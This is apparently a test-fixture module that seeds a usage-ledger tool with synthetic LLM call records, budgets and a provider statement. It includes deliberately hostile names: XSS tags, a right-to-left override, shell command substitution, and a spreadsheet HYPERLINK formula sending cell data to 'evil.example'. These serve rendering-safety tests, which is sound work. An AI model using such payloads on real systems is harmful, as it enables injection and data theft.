// What the ledger holds that the proof looks at: fixtures of three agents, and ten weeks of calls that
// were posted, the same each time but for the day with which they end. Names are such as hurt pages,
// terminals, shells and spreadsheets.

import { execFileSync } from "node:child_process";
import { cpSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";

export const HTML = `<img src=x onerror="window.hurt=1"><script>window.hurt=1</script><b>bold</b>`;
export const RIGHT_TO_LEFT = "مشروع \u202eevil\u202c עברית";
export const EMOJI = "🦊 mödel 🚀";
export const LONG = "long-".repeat(60);
export const SHELL = "it's $(touch hurt) `touch hurt`; touch hurt";
export const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")';
/** Names of budgets have no slashes, and at most 40 characters. */
export const BUDGET = `<img src=x onerror=hurt=1> עברית`;
export const HOSTILE = [HTML, RIGHT_TO_LEFT, EMOJI, LONG, SHELL, FORMULA];

/** A model that is in no price table. */
export const UNPRICED = "house-llama";
/** The zone of the settings: one in which clocks are changed. */
export const ZONE = "Europe/Berlin";
/** Days of which nothing was posted, counted back from the present one. */
export const IDLE_DAYS = [9, 10, 23];
/** The project of the calls around the last change of clocks, and of no other: whatever day that was. */
export const CLOCKS = "/home/u/clocks";

const DAYS = 69;
const HOUR_MS = 3_600_000;
const DAY_MS = 24 * HOUR_MS;

const MODELS = [
  { provider: "anthropic", model: "claude-opus-4-8", size: 60_000, part: 5, cached: 0.85 },
  { provider: "openai", model: "gpt-5.5", size: 42_000, part: 5, cached: 0.7 },
  { provider: "anthropic", model: "claude-sonnet-4-6", size: 30_000, part: 4, cached: 0.8 },
  { provider: "openai", model: "gpt-5.4", size: 26_000, part: 3, cached: 0.6 },
  { provider: "google", model: "gemini-3-pro", size: 22_000, part: 2, cached: 0.3 },
  { provider: "openai", model: "o3", size: 9_000, part: 2, cached: 0 },
  { provider: "anthropic", model: "claude-haiku-4-5", size: 6_000, part: 2, cached: 0.5 },
  { provider: "deepseek", model: "deepseek-chat", size: 14_000, part: 1, cached: 0.4 },
  { provider: "local", model: UNPRICED, size: 8_000, part: 1, cached: 0 },
  { provider: "openai", model: "gpt-4.1", size: 4_000, part: 1, cached: 0 },
];
const PROJECTS = ["/home/u/shop", "/home/u/shop", "/home/u/search", "/srv/ingest", "/home/u/papers"];
const AGENTS = ["my-agent", "my-agent", "nightly", "support-bot"];
const KINDS = ["main", "main", "main", "cron", "subagent"];

/** The same numbers in the same order, each at least 0 and less than 1. */
function numbers(seed) {
  let state = seed;
  return () => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return state / 2 ** 32;
  };
}

/** The midnight, in UTC, with which the present day begins. */
export const midnight = (now = Date.now()) => Math.floor(now / DAY_MS) * DAY_MS;
export const dayOf = (ms) => new Date(ms).toISOString().slice(0, 10);

/** The last Sunday of October or March that is over: clocks were changed in `ZONE`. */
export function lastChange(now) {
  const lastSunday = (year, month) => {
    const end = Date.UTC(year, month + 1, 0);
    return end - new Date(end).getUTCDay() * DAY_MS;
  };
  const year = new Date(now).getUTCFullYear();
  const all = [year - 1, year].flatMap((one) => [
    { at: lastSunday(one, 2), hours: 23 },
    { at: lastSunday(one, 9), hours: 25 },
  ]);
  const { at, hours } = all.filter(({ at }) => at < midnight(now)).at(-1);
  return { day: dayOf(at), at, hours };
}

/** Calls of ten weeks. The present day's are of its past hours. */
function calls(now) {
  const next = numbers(7);
  const of = (list) => list[Math.floor(next() * list.length)];
  const weighted = MODELS.flatMap((one) => new Array(one.part).fill(one));
  const all = [];
  for (let back = DAYS; back >= 0; back -= 1) {
    if (IDLE_DAYS.includes(back)) continue;
    const begin = midnight(now) - back * DAY_MS;
    const isWeekend = [0, 6].includes(new Date(begin).getUTCDay());
    const count = Math.round((isWeekend ? 6 : 16) * (0.6 + next()) * (1 + (DAYS - back) / DAYS));
    for (let at = 0; at < count; at += 1) {
      const hours = 7 + 13 * next();
      const { provider, model, size, cached } = of(weighted);
      const prompt = Math.round(size * (0.3 + 1.4 * next()));
      const completion = Math.round(prompt * (0.01 + 0.04 * next()));
      const hasFailed = next() < 0.03;
      const agent = of(AGENTS);
      const record = {
        trace_id: `seed-${back}-${at}`,
        timestamp: new Date(begin + hours * HOUR_MS).toISOString(),
        provider,
        model,
        prompt_tokens: prompt,
        completion_tokens: hasFailed ? 0 : completion,
        cache_read_tokens: Math.round(prompt * cached * next()),
        reasoning_tokens: model.startsWith("gpt-5") && !hasFailed ? Math.round(completion / 3) : undefined,
        latency_ms: Math.round(400 + 9000 * next()),
        time_to_first_token_ms: Math.round(100 + 300 * next()),
        session_id: `${agent}-${dayOf(begin)}-${Math.floor(hours / 4)}`,
        session_kind: of(KINDS),
        project: of(PROJECTS),
        agent,
        ...(hasFailed && { status: "error", error_type: of(["rate_limit", "overloaded", "timeout"]) }),
      };
      if (begin + hours * HOUR_MS < now - 60_000) all.push(record);
    }
  }
  return all;
}

/** A call of each name that hurts, which is its project, its session, its agent and its model. */
function hostileCalls(now) {
  return HOSTILE.map((name, at) => ({
    trace_id: `hostile-${at}`,
    timestamp: new Date(midnight(now) - (at + 2) * DAY_MS + 12 * HOUR_MS).toISOString(),
    provider: "openai",
    model: at === 2 ? name : at === 0 ? `${name}-model` : "gpt-5.5",
    prompt_tokens: 1000 + at,
    completion_tokens: 100 + at,
    project: name,
    session_id: name,
    agent: at === 0 ? name : "my-agent",
    session_kind: at === 0 ? name : "main",
    ...(at === 0 && { status: "error", error_type: name }),
  }));
}

/** A call in each hour of the day on which clocks were changed, and of the hours beside it. */
function changeCalls(now) {
  const { at } = lastChange(now);
  return Array.from({ length: 30 }, (_, hour) => ({
    trace_id: `change-${hour}`,
    timestamp: new Date(at + (hour - 3) * HOUR_MS + 30 * 60_000).toISOString(),
    provider: "openai",
    model: "o3",
    prompt_tokens: 100 + hour,
    completion_tokens: 10,
    project: CLOCKS,
    agent: "nightly",
    session_id: "clocks",
  }));
}

function plainErrors(now) {
  const next = numbers(11);
  const kinds = [
    ["llm_error", "rate limited after 3 tries, wait 20 s", "warning"],
    ["llm_error", "the model answered 529: overloaded", "error"],
    ["crash", "thread 'main' panicked at src/index.rs:214:9", "fatal"],
    ["tool_error", "cannot read /home/u/shop/schema-2.json", "error"],
  ];
  return Array.from({ length: 60 }, (_, at) => {
    const [error_type, message, severity] = kinds[Math.floor(next() ** 2 * kinds.length)];
    const timestamp = new Date(midnight(now) - Math.floor(next() * 20) * DAY_MS - Math.floor(next() * 9 * HOUR_MS)).toISOString();
    const stack_trace = error_type === "crash" ? "0: shop::index::rank\n             at src/index.rs:214:9\n1: shop::main" : undefined;
    return { trace_id: `error-${at}`, timestamp, error_type, message: message.replace(/\d+ s/, `${at} s`), severity, stack_trace, agent: "my-agent" };
  });
}

function hostileErrors(now) {
  return HOSTILE.map((name, at) => ({
    trace_id: `hostile-error-${at}`,
    timestamp: new Date(midnight(now) - DAY_MS).toISOString(),
    error_type: at < 2 ? name : "tool_error",
    message: `${name} was not there`,
    stack_trace: name,
    agent: "my-agent",
  }));
}

const SETTINGS = `tz = "${ZONE}"

[[budget]]
name = "everything, a month"
limit = 60
per = "month"

[[budget]]
name = "night shift"
limit = "4.50"
per = "week"
agent = "nightly"

[[budget]]
name = "watched"

[[budget]]
name = ${JSON.stringify(BUDGET)}
limit = "4.50"
per = "week"
model = "claude-*"
`;

/** What the provider says of its days: what was posted, less a tenth on one day, and with a key of another. */
function statement(now) {
  const names = ["start_time", "end_time", "project_id", "num_model_requests", "api_key_id", "model", "batch", "service_tier", "input_tokens", "output_tokens", "input_cached_tokens", "input_uncached_tokens"];
  const cells = new Map();
  for (const call of calls(now).filter(({ provider }) => provider === "openai")) {
    const begin = midnight(Date.parse(call.timestamp)) / 1000;
    const key = `${begin} ${call.model}`;
    const cell = cells.get(key) ?? { begin, model: call.model, requests: 0, input: 0, cached: 0, output: 0 };
    cell.requests += call.status === "error" ? 0 : 1;
    cell.input += call.prompt_tokens;
    cell.cached += call.cache_read_tokens ?? 0;
    cell.output += call.completion_tokens;
    cells.set(key, cell);
  }
  const quote = (text) => `"${String(text).replaceAll('"', '""')}"`;
  const rows = [...cells.values()].flatMap(({ begin, model, requests, input, cached, output }) => {
    const back = (midnight(now) / 1000 - begin) / 86_400;
    const told = back === 5 ? Math.round(input * 0.9) : input;
    const read = Math.min(cached, told);
    const own = [begin, begin + 86_400, "proj_shop", requests, "key_agents", model, "False", "default", told, output, read, told - read];
    const other = [begin, begin + 86_400, "proj_shop", 40, "key_notebook", model, "False", "default", 90_000, 4_000, 0, 90_000];
    return back < 1 ? [] : back === 3 && model === "gpt-5.5" ? [own, other] : [own];
  });
  return [names, ...rows.map((row) => row.map(quote))].map((row) => `${row.join(",")}\n`).join("");
}

/** Three days of the machine, a sample every five minutes, into the table of which `serve` adds to. */
const SAMPLES = `
import math, os, sqlite3, sys
ledger, now = sqlite3.connect(sys.argv[1]), int(sys.argv[2])
for at in range(864):
    time = now - (864 - at) * 300_000
    hour = (time / 3_600_000) % 24
    busy = max(0.0, math.sin((hour - 7) / 13 * math.pi)) if 7 <= hour <= 20 else 0.0
    wave = (math.sin(at * 0.9) + math.sin(at * 0.37)) / 4 + 0.5
    ledger.execute(
        "INSERT INTO system_metrics (id, created_at, scope, cpu_millipercent, cpu_capacity_millicores,"
        " mem_rss_bytes, mem_working_set_bytes, mem_limit_bytes, cpu_some_millipercent, mem_some_millipercent,"
        " io_some_millipercent, disk_used_bytes, disk_available_bytes, disk_total_bytes, disk_read_bytes_per_second,"
        " disk_write_bytes_per_second, net_rx_bytes_per_second, net_tx_bytes_per_second, processes, threads, zombies, oom_kills)"
        " VALUES (?,?,'cgroup2',?,4000,?,?,8589934592,?,?,?,?,?,107374182400,?,?,?,?,?,?,0,0)",
        (time.to_bytes(6, "big") + at.to_bytes(10, "big"), time,
         int(1000 * (3 + 70 * busy * wave)), int(6e8 + 3e9 * busy * wave), int(8e8 + 3.4e9 * busy * wave),
         int(1000 * 12 * busy * wave), int(1000 * 2 * busy * wave), int(1000 * 6 * busy * wave),
         int(4e10 + 2e6 * at), int(6e10 - 2e6 * at), int(4e6 * busy * wave), int(2e6 * (0.1 + busy * wave)),
         int(3e5 * busy * wave), int(8e4 * busy * wave), 40 + int(30 * busy), 180 + int(90 * busy)))
ledger.commit()
`;

/** Before anything is served: stores of agents, settings, a statement, samples of the machine. */
export async function prepare(machine, repository, now) {
  const { home } = machine;
  for (const agent of ["claude-code/everyday", "codex/everyday", "openclaw/01_normal"]) {
    cpSync(join(repository, "crates/trueup-agents/fixtures", agent), home, { recursive: true });
    rmSync(join(home, "expected.txt"), { force: true });
  }
  // A run that OpenClaw's index knows, and of which there is no transcript: it is only claimed.
  const index = join(home, ".openclaw/agents/main/sessions/sessions.json");
  const sessions = JSON.parse(readFileSync(index, "utf8"));
  const [normal] = Object.values(sessions);
  sessions["agent:main:cron:morning"] = {
    ...normal,
    sessionId: "7d1f0a52-0000-4000-8000-00000000c1a1",
    sessionFile: undefined,
    updatedAt: midnight(now) - 4 * DAY_MS + 9 * HOUR_MS,
    inputTokens: 402_000,
    outputTokens: 9_100,
    totalTokens: 402_000,
  };
  writeFileSync(index, JSON.stringify(sessions));
  mkdirSync(join(home, ".config/trueup"), { recursive: true });
  writeFileSync(join(home, ".config/trueup/trueup.toml"), SETTINGS);
  writeFileSync(join(home, "completions_usage.csv"), statement(now));
  await machine.run("trueup sync");
  await machine.run("trueup import completions_usage.csv");
  execFileSync("python3", ["-c", SAMPLES, machine.environment.TRUEUP_LEDGER, String(now)]);
}

/** What clients post while it is served. */
export async function post(machine, now) {
  await machine.post("/v1/traces", calls(now));
  await machine.post("/v1/errors", plainErrors(now));
}

/** What pictures would be of otherwise. */
export async function postHostile(machine, now) {
  await machine.post("/v1/traces", [...hostileCalls(now), ...changeCalls(now)]);
  await machine.post("/v1/errors", hostileErrors(now));
}
